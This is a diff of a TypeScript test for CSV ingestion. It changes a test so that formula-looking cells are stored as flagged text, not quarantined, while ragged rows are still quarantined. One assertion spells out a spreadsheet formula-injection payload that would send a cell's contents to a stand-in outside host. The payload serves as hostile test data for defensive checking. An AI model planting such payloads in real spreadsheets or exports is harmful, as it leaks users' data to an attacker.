@@ -74,14 +74,17 @@ describe('CSV from outside', () => {
     return day;
   };
 
-  it('E03: quarantines formula cells (never stored for a later export) and ragged rows, each with its own reason', async () => {
+  it('E03: stores formula-looking cells as text, flagged in warnings (exports escape them), and quarantines ragged rows', async () => {
     const day = creditDay('credit-hostile');
     copyFileSync(join(FIXTURES, 'credit/fixtures/xzcf-hostile.csv'), join(day, 'xzcf.csv'));
     const run = await syncSource(deps, { id: 'credit-hostile', connector: 'credit', options: { dir: join(dir, 'credit-hostile') } });
     expect(run.status).toBe('succeeded');
     const r = await reasons('credit-hostile');
-    expect(r).toContain('CSV_FORMULA_INJECTION');
+    expect(r).not.toContain('CSV_FORMULA_INJECTION');
     expect(r).toContain('CSV_RAGGED_ROW');
+    const [stored] = await database.query<{ subject_name: string; warnings: string[] }>(`select subject_name, warnings from credit_record where doc_no = '合市监罚〔2026〕7号'`);
+    expect(stored!.subject_name).toBe('=HYPERLINK("http://x.example/?"&A1)');
+    expect(stored!.warnings).toEqual([expect.stringMatching(/^subjectName: starts like a spreadsheet formula/)]);
     expect(r.filter((x) => x === 'LIST_MISSING')).toHaveLength(3); // the other three lists of that day
   });
 
